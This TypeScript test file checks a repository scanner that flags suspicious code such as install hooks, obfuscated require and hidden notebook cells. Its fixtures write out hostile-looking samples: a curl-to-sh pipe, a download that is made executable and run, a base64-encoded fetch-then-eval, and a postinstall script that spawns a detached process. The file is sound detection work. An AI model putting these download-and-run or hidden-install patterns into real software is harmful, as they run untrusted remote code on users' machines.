// biome-ignore-all lint/suspicious/noTemplateCurlyInString: settings of editors hold their own placeholders.
/** What a finding says to whoever reads it: one place once, what was looked at, and no advice that its level takes back. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Finding } from './finding.ts';
import { repositoryInKorean } from './in-korean.ts';
import { ADVICE } from './rules.ts';
import { scanTree } from './scan-tree.ts';

const scan = (files: Readonly<Record<string, string>>) =>
  scanTree(Object.entries(files).map(([path, text]) => ({ path, bytes: new TextEncoder().encode(text) })));
const foundIn = (files: Readonly<Record<string, string>>, rule: string): Finding[] =>
  scan(files).findings.filter((finding) => finding.rule === rule);

const LOCKED = JSON.stringify({
  lockfileVersion: 3,
  packages: {
    '': { name: 'a' },
    'node_modules/b': {
      version: '1.0.0',
      resolved: 'https://registry.npmjs.org/b/-/b-1.0.0.tgz',
      integrity: 'sha512-x',
      hasInstallScript: true,
    },
  },
});
const HIDES =
  'const { spawn } = require("child_process");\nspawn("node", ["a.js"], { stdio: "ignore", detached: true });\n';

describe('a finding', () => {
  it('of a locked package is there only where no manifest asks for it', () => {
    const manifest = JSON.stringify({ name: 'a', dependencies: { b: '^1.0.0' } });
    assert.equal(
      foundIn({ 'package-lock.json': LOCKED, 'package.json': '{"name":"a"}' }, 'lock-unexplained').length,
      1,
    );
    assert.equal(foundIn({ 'package-lock.json': LOCKED, 'package.json': manifest }, 'lock-unexplained').length, 0);
  });

  it('of one weak sign says that it starts by itself', () => {
    const manifest = JSON.stringify({ name: 'a', scripts: { postinstall: 'node install.js' } });
    const result = scan({ 'package.json': manifest, 'install.js': HIDES });
    const [told] = result.findings.filter(({ rule }) => rule === 'combination');
    assert.match(told?.text ?? '', /shows no window\. It starts by itself/);
    const [korean] = repositoryInKorean(result).findings.filter(({ rule }) => rule === 'combination');
    assert.match(korean?.text ?? '', /저절로 시작됩니다\.$/);
  });

  it('that is a note at its place gives the advice of a note, and is no surer than one', () => {
    const [note] = foundIn(
      { 'tests/run.js': "require('fs').readFile('a.png', (e, d) => eval(d));\n" },
      'asset-code-run',
    );
    assert.equal(note?.level, 'note');
    assert.equal(note?.advice, ADVICE.context);
    assert.ok((note?.confidence ?? 100) <= 50);
  });

  it('stands once on a line, at its heaviest', () => {
    const twice = 'const a = globalThis["re" + "quire"]("fs"), b = globalThis["re" + "quire"]("os");\n';
    assert.equal(foundIn({ 'a.js': twice }, 'hidden-name').length, 1);
  });

  it('shows a setting once', () => {
    const settings = JSON.stringify({ 'python.defaultInterpreterPath': '${workspaceFolder}/.tools/python' });
    const [told] = foundIn({ '.vscode/settings.json': settings }, 'editor-program-changed');
    assert.equal(told?.excerpt, 'python.defaultInterpreterPath: ${workspaceFolder}/.tools/python');
  });

  it('shows a download with the line that runs it, and not the names of packages before it', () => {
    const kept = 'curl -s https://files.example/tool -o /tmp/tool\nchmod +x /tmp/tool\n/tmp/tool --all\n';
    assert.match(foundIn({ 'a.sh': kept }, 'download-command')[0]?.excerpt ?? '', /^curl .* … \/tmp\/tool --all$/);
    const piped = 'apt-get install -y curl git && curl -fsSL http://files.example/a | sh\n';
    assert.match(foundIn({ 'a.sh': piped }, 'download-command')[0]?.excerpt ?? '', /^curl -fsSL/);
  });

  it('names a hidden cell and shows its first lines in one', () => {
    const notebook = JSON.stringify({
      cells: [{ cell_type: 'code', metadata: { tags: ['hide-input'] }, source: ['import os\n', 'print(os)'] }],
    });
    assert.equal(foundIn({ 'a.ipynb': notebook }, 'hidden-cell')[0]?.excerpt, 'cell 1: import os print(os)');
  });

  it('of what only a decoder reads says so, and of what stands in a text does not', () => {
    const code = 'fetch("https://files.example/a").then((r) => r.text()).then((t) => eval(t));';
    const hidden = `eval(atob("${btoa(code)}"));\n`;
    assert.match(foundIn({ 'a.js': hidden }, 'network-code-run')[0]?.excerpt ?? '', /^decoded: eval\(t\)/);
    const open = `eval('${code}');\n`;
    assert.match(foundIn({ 'a.js': open }, 'network-code-run')[0]?.excerpt ?? '', /^eval\(t\)/);
  });
});
